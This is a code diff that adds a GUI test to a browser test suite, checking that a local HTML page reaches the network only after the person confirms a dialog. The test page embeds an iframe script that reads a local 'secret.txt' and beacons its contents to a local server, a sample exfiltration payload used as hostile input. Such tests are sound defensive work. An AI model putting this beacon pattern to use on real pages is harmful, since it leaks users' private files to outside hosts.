@@ -1,11 +1,13 @@
 """The internal browser of the real program, looked at from outside: by the colours on the screen, the titles of the
 windows, the files that it leaves."""
 
+import http.server
 import re
 import shutil
 import stat
 import subprocess
 import sys
+import threading
 import unittest
 
 sys.dont_write_bytecode = True
@@ -180,6 +182,46 @@ class BrowserTest(unittest.TestCase):
         self.assertEqual(len(session.windows()), 2)
         packages = list(session.home.rglob("balik*"))
         self.assertEqual(packages, [session.home / "balik.tar.gz"])
+
+    def test_a_local_page_reaches_the_net_only_by_the_persons_word(self):
+        session = self.session
+        asked = []
+
+        class Site(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                asked.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(f'<TITLE>Sit</TITLE><BODY BGCOLOR="{PINK}">'.encode())
+
+            def log_message(self, *_):
+                pass
+
+        server = http.server.HTTPServer(("127.0.0.1", 0), Site)
+        self.addCleanup(server.server_close)
+        self.addCleanup(server.shutdown)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        site = f"http://127.0.0.1:{server.server_port}"
+        self.write("secret.txt", "secret")
+        path = self.write("stranka.html", f"""<TITLE>Stranka</TITLE><IMG SRC="{site}/picture">
+            <IFRAME SRC="secret.txt" onload="new Image().src='{site}/beacon?' + this.contentDocument.body.innerText;
+              document.title = this.contentDocument.body.innerText"></IFRAME>
+            <A HREF="{site}/link"><IMG WIDTH="60" HEIGHT="60" STYLE="background:{BLUE}" ALT=""></A>""")
+        session.start(PROGRAM, path)
+        main = session.wait_window(f"Pelmar VEX ({path})")
+        session.activate(main)
+        self.press_toolbar_key(main)
+        browser = self.shown("secret")
+        link = self.boxes(browser, {"link": BLUE})["link"].middle
+        for key, title in (("Return", "secret"), ("alt+a", "Sit")):  # No is the default
+            session.click(browser, *link)
+            session.activate(session.wait_window("Zpráva stránky"))
+            session.shot("browser-net")
+            session.key(key)
+            session.wait_no_window("Zpráva stránky")
+            self.wait_title(browser, f"HTML testovací browser ({title})")
+        self.boxes(browser, {"page": PINK})
+        self.assertEqual([path for path in asked if path != "/favicon.ico"], ["/link"])
 
     def test_it_can_be_the_whole_program(self):
         session = self.session
